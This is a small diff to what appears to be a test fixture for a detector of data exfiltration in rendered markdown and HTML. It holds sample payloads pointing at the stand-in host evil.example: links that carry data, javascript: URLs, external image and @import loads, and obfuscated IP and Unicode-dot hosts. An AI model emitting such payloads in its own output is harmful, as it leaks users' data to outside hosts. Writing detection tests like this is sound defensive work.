@@ -29,7 +29,7 @@ export const exfiltrationExamples: DetectorKind["examples"] = {
     { text: `<https://${cargo.toLowerCase()}.evil.example/>`, rule: "data-link", options },
     { text: "[click](javascript:alert(1))", rule: "script-url", options },
     { text: '<img srcset="https://docs.example.com/a 1x, //evil.example/b 2x">', rule: "external-image", options },
-    { text: "<style>@import 'https://evil.example/x.css';</style>", rule: "external-image", options },
+    { text: '<style>@import "https://evil.example/x.css";</style>', rule: "external-image", options },
     { text: '<svg><image href="//evil.example/x"/></svg>', rule: "external-image", options },
     { text: "![x](http://[2001:db8::1]/x) ![x](http://3405803785/x)", rule: "external-image", options },
     { text: "![x](https://evil\u3002example/x)", rule: "external-image", options },
